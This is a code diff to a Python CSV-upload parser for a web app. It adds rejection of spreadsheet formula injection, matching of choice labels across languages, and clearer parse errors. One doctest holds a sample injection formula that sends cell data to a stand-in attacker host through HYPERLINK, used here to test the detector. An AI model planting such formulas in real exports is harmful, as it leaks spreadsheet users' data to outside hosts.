@@ -12,14 +12,19 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import functools
 import io
 import math
+import re
 from collections.abc import Callable, Iterable, Sequence
 from dataclasses import dataclass, field
 from decimal import Decimal, InvalidOperation
 from typing import Any
 
+from flask_babel import force_locale, get_locale
 from flask_babel import gettext as _
+
+from web import vocabulary
 
 
 @dataclass(frozen=True)
@@ -33,6 +38,8 @@ class Column:
     minimum: float | None = None
     maximum: float | None = None
     max_length: int = 5000
+    #: refuse a cell that a spreadsheet would run as a formula (postings that others see and export)
+    no_formulas: bool = False
 
 
 class TooManyRows(ValueError):
@@ -89,12 +96,128 @@ def _number(kind: str, raw: str) -> Any:
     return value
 
 
+#: a list item's bullet ("- lifting", "• cooking"), dropped: the item is what follows it
+BULLET = re.compile(r"^[-+*\u2022]\s+")
+#: what a spreadsheet reads as the start of a formula (OWASP "CSV injection")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_like(text: str) -> bool:
+    """Whether a spreadsheet would read ``text`` as a formula when it is exported and opened.
+
+    Examples
+    --------
+    >>> formula_like('=HYPERLINK("http://evil.example/?x="&A1, "Apply")'), formula_like("Cleaner")
+    (True, False)
+    >>> formula_like("  @SUM(A1)"), formula_like("Kitchen - porter")
+    (True, False)
+    """
+    return text.lstrip(" ").startswith(FORMULA_STARTS)
+
+
+def _refuse_formula(text: str) -> None:
+    if formula_like(text):
+        raise ValueError(
+            _(
+                "starts with %(start)s, which a spreadsheet runs as a formula; "
+                "start it with a letter or a digit instead",
+                start=repr(text.lstrip(" ")[:1]),
+            )
+        )
+
+
+def choice_code(column: Column, raw: str) -> str | None:
+    """The code a choice cell means: a code, or a label the form shows, in any case; ``None`` if neither.
+
+    Labels are those of :mod:`web.vocabulary` for a vocabulary named like the column, in the
+    reader's language and in English (the form's words and the API's); ``-``, ``_`` and spaces
+    count as the same.
+
+    Examples
+    --------
+    >>> sector = Column("sector", "choice", choices=("retail", "care", "admin"))
+    >>> [choice_code(sector, t) for t in ("retail", "Retail", "CARE WORK", "Office and administration", "x")]
+    ['retail', 'retail', 'care', 'admin', None]
+    >>> contract = Column("contract", "choice", choices=("fixed_term",))
+    >>> choice_code(contract, "Fixed-term"), choice_code(contract, "fixed term")
+    ('fixed_term', 'fixed_term')
+    """
+    if raw in column.choices:  # the usual case, and the fast one
+        return raw
+    key = _word_key(raw)
+    for code in column.choices:
+        if key == _word_key(code):
+            return code
+    labels = vocabulary.VOCABULARY.get(column.name)
+    if labels is None:
+        return None
+    found = _label_codes(column.name, str(get_locale() or "en"))
+    found = {**_label_codes(column.name, "en"), **found}  # the reader's own words win
+    code = found.get(key)
+    return code if code in column.choices else None
+
+
+@functools.cache
+def _label_codes(kind: str, locale: str) -> dict[str, str]:
+    """Each label of the vocabulary ``kind`` in ``locale`` (as a :func:`_word_key`) -> its code.
+
+    Kept per process: labels change only with a new release. Computed once per language,
+    because switching language (``force_locale``) reloads the translations.
+    """
+    with force_locale(locale):
+        return {_word_key(str(text)): code for code, text in vocabulary.VOCABULARY[kind].items()}
+
+
+def choice_words(kind: str, code: str) -> tuple[str, ...]:
+    """The label of one code of the vocabulary ``kind`` in the reader's language; ``()`` if it has none.
+
+    A column with no vocabulary of its name has no labels, only its codes.
+    """
+    labels = vocabulary.VOCABULARY.get(kind)
+    if labels is None or code not in labels:
+        return ()
+    return (str(labels[code]),)
+
+
+def allowed_values(column: Column) -> list[str]:
+    """What a choice column takes, as the upload page and the errors list it: ``Label (code)``.
+
+    Examples
+    --------
+    >>> allowed_values(Column("shift", "choice", choices=("day", "night")))
+    ['Day shift (day)', 'Night shift (night)']
+    >>> allowed_values(Column("pay_period", "choice", choices=("hour", "week")))
+    ['hour', 'week']
+    >>> allowed_values(Column("interview_kind", "choice", choices=("open",)))
+    ['open']
+    """
+    shown = []
+    for code in column.choices:
+        words = choice_words(column.name, code)
+        if not words:
+            shown.append(code)
+        else:  # the code too, unless the label says it already
+            same = _word_key(words[0]) == _word_key(code)
+            shown.append(words[0] if same else f"{words[0]} ({code})")
+    return shown
+
+
+def _word_key(text: str) -> str:
+    return " ".join(text.replace("_", " ").replace("-", " ").casefold().split())
+
+
 def parse_value(column: Column, raw: str) -> Any:
     """Parse one cell; raise ``ValueError`` with a plain message when it is wrong."""
     if "\x00" in raw:  # PostgreSQL cannot store it in text, and no one types it on purpose
         raise ValueError(_("contains a NUL character (code 0); remove it"))
     if column.kind == "list":
-        return [part.strip() for part in raw.split(";") if part.strip()]
+        items = [BULLET.sub("", part.strip()) for part in raw.split(";")]
+        if column.no_formulas:
+            for item in items:
+                _refuse_formula(item)
+        return [item for item in items if item]
+    if column.no_formulas and column.kind == "str":
+        _refuse_formula(raw)
     if column.kind in ("int", "float", "decimal"):
         try:
             value = _number(column.kind, raw)
@@ -122,14 +245,17 @@ def parse_value(column: Column, raw: str) -> Any:
         except ValueError as exc:
             raise ValueError(_("should be a month like 2026-11, got %(value)s", value=repr(raw))) from exc
         return raw
-    if column.kind == "choice" and raw not in column.choices:
-        raise ValueError(
-            _(
-                "should be one of %(choices)s, got %(value)s",
-                choices=", ".join(column.choices),
-                value=repr(raw),
+    if column.kind == "choice":
+        code = choice_code(column, raw)
+        if code is None:
+            raise ValueError(
+                _(
+                    "should be one of %(choices)s, got %(value)s",
+                    choices=", ".join(allowed_values(column)),
+                    value=repr(raw),
+                )
             )
-        )
+        return code
     if len(raw) > column.max_length:
         raise ValueError(
             _(
@@ -142,9 +268,16 @@ def parse_value(column: Column, raw: str) -> Any:
 
 
 def read_rows(
-    text: str | Iterable[str], spec: Sequence[Column], source: str, max_rows: int | None = None
+    text: str | Iterable[str],
+    spec: Sequence[Column],
+    source: str,
+    max_rows: int | None = None,
+    notes_in: str | None = None,
 ) -> ParsedRows:
     r"""Parse CSV text against ``spec``; unknown columns are an error, missing ones too.
+
+    With ``notes_in``, a row whose cell in that column starts with ``#`` is a note (a
+    template's explanations) and is skipped.
 
     ``text`` may be lines read from a stream: with ``max_rows``, reading stops at the first
     row past it and :class:`TooManyRows` is raised, so a huge file is refused without being
@@ -165,7 +298,7 @@ def read_rows(
     v.csv has more than 2 rows
     """
     handle = io.StringIO(text) if isinstance(text, str) else text
-    reader = csv.DictReader(handle)
+    reader = csv.DictReader(handle, strict=True)
     result = ParsedRows()
     header = [h.strip() for h in (reader.fieldnames or [])]
     expected = [c.name for c in spec]
@@ -181,16 +314,32 @@ def read_rows(
         result.errors.append(RowError(source, 1, "", message))
         return result
     reader.fieldnames = header
-    try:
-        for count, raw_row in enumerate(reader, start=1):
-            if max_rows is not None and count > max_rows:
-                raise TooManyRows(source, max_rows)
-            _parse_row(raw_row, spec, source, reader.line_num, result)
-    except csv.Error as exc:
-        result.errors.append(
-            RowError(source, reader.line_num, "", _("is not valid CSV (%(problem)s)", problem=str(exc)))
-        )
+    count = 0
+    while True:
+        start = reader.line_num + 1  # the line a row starts on: a quoted cell may span lines
+        try:
+            raw_row = next(reader)
+        except StopIteration:
+            break
+        except csv.Error as exc:
+            result.errors.append(RowError(source, start, "", _csv_problem(exc)))
+            break
+        if notes_in and (raw_row.get(notes_in) or "").strip().startswith("#"):
+            continue
+        count += 1
+        if max_rows is not None and count > max_rows:
+            raise TooManyRows(source, max_rows)
+        _parse_row(raw_row, spec, source, reader.line_num, result)
     return result
+
+
+def _csv_problem(error: csv.Error) -> str:
+    if "unexpected end of data" in str(error):
+        return _(
+            'has a quotation mark (") that opens a cell and is never closed, so everything after it '
+            "was read as one cell; close the quote or remove it"
+        )
+    return _("is not valid CSV (%(problem)s)", problem=str(error))
 
 
 def _parse_row(
